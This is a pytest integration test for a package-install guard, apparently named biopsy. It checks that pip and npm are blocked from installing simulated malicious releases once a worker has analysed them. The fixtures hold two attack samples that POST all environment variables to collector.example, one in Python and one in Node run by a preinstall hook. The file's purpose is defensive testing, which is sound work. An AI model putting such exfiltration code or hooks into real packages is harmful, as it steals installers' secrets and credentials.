"""`--analyze` from end to end: a real client waits while a real worker reads a release that nobody has looked at."""

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from tests.clients import install
from tests.registry import StandIn, build

from thorough import WHOLE

pytest.importorskip("pgqueuer", reason="needs biopsy[queue]")

BIOPSY = [sys.executable, "-c", "from biopsy.cli import main; main()"]
PATIENCE = 120
STEALS = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collector.example/in', data=repr(dict(os.environ)).encode())\n"
)
SENDS = (
    "const https = require('https');\n"
    "const r = https.request('https://collector.example/in', {method: 'POST'});\n"
    "r.end(JSON.stringify(process.env));\n"
)
POLICY = "minimum-age: 0\nstale: {then: allow}\n"


@pytest.fixture(scope="module")
def registry() -> Iterator[StandIn]:
    """Registries with a release of each kind that steals, and one that does not."""
    hook = {"scripts": {"preinstall": "node index.js"}}
    with StandIn() as made:
        made.publish(
            "pypi", "sim-held", "1.0", [build.wheel("sim-held", "1.0", {"sim_held/__init__.py": STEALS})]
        )
        made.publish("pypi", "sim-calm", "1.0", [build.wheel("sim-calm", "1.0")])
        made.publish(
            "npm", "sim-held", "1.0.0", [build.tgz("sim-held", "1.0.0", {"index.js": SENDS}, **hook)], **hook
        )
        made.publish("npm", "sim-calm", "1.0.0", [build.tgz("sim-calm", "1.0.0")])
        yield made


@pytest.fixture
def environment(registry: StandIn, home: Path, tmp_path: Path) -> dict[str, str]:
    """What a client and a worker have in common: the registries, and a home without reports."""
    place = tmp_path / "home"
    place.mkdir()
    (place / "cache").symlink_to(home / "cache")  # rules and patterns, ready
    (place / "guard.yml").write_text(POLICY)
    kept = {
        name: value for name, value in os.environ.items()
        if not name.lower().startswith(("npm_config_", "uv_", "pip_"))
    }  # fmt: skip
    quiet = {"npm_config_audit": "false", "npm_config_fund": "false", "NO_UPDATE_NOTIFIER": "1"}
    own = {
        "HOME": str(tmp_path),
        "BIOPSY_HOME": str(place),
        "NO_COLOR": "1",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
    }
    return {**kept, **registry.environment(), **quiet, **own}


@contextmanager
def working(dsn: str, environment: dict[str, str]) -> Iterator[None]:
    """A worker, while the block lasts."""
    words = ["worker", "--static-only", "--against", "none", "--slots", "1", "--dsn", dsn, "--grace", "0"]
    log = Path(environment["BIOPSY_HOME"], "worker.log")
    with log.open("wb") as file:
        worker = subprocess.Popen([*BIOPSY, *words], env=environment, stdout=file, stderr=subprocess.STDOUT)
        try:
            yield
        finally:
            worker.terminate()
            worker.wait(30)
            print(log.read_text())


def guarded(dsn: str, environment: dict[str, str], folder: Path, *words: str) -> tuple[int, str]:
    """How a command behind a guard that has things analysed ended, and what it said."""
    done = subprocess.run(
        [*BIOPSY, "guard", "run", "--analyze", "--dsn", dsn, "--", *words], cwd=folder, env=environment, text=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False, timeout=PATIENCE,
    )  # fmt: skip
    print(f"$ {' '.join(words)}\n{done.stdout}[{done.returncode}]")
    return done.returncode, done.stdout


def test_pip_waits_until_a_worker_has_read_what_it_installs(
    dsn: str, environment: dict[str, str], tmp_path: Path
) -> None:
    pip = f"{sys.executable} -m pip install -q --no-cache-dir --target here"
    with working(dsn, environment):
        both = f"{pip} sim-calm && echo the calm one is here && {pip} sim-held"
        status, said = guarded(dsn, environment, tmp_path, "sh", "-c", both)
    assert status != 0
    assert "the calm one is here" in said
    assert "kept out: sim-held 1.0: biopsy found it malicious" in said
    assert {path.name.partition("-")[0] for path in tmp_path.glob("here/sim_*")} == {"sim_calm"}


@pytest.mark.skipif(not WHOLE, reason="as long once more")
def test_npm_waits_until_a_worker_has_read_what_it_installs(
    dsn: str, environment: dict[str, str], home: Path, tmp_path: Path
) -> None:
    (folder,) = install.client("npm", home, install=False)
    environment["PATH"] = f"{folder}:{environment['PATH']}"
    project = tmp_path / "project"
    project.mkdir()
    (project / "package.json").write_text('{"name": "p", "version": "1.0.0"}')
    with working(dsn, environment):
        assert guarded(dsn, environment, project, "npm", "install", "sim-calm")[0] == 0
        status, said = guarded(dsn, environment, project, "npm", "install", "sim-held")
        assert status != 0
        assert "npm error 403" in said
        assert "sim-held 1.0.0 is blocked by biopsy guard: biopsy found it malicious" in said
    assert shutil.which("node", path=environment["PATH"])
    assert [path.name for path in (project / "node_modules").glob("sim-*")] == ["sim-calm"]
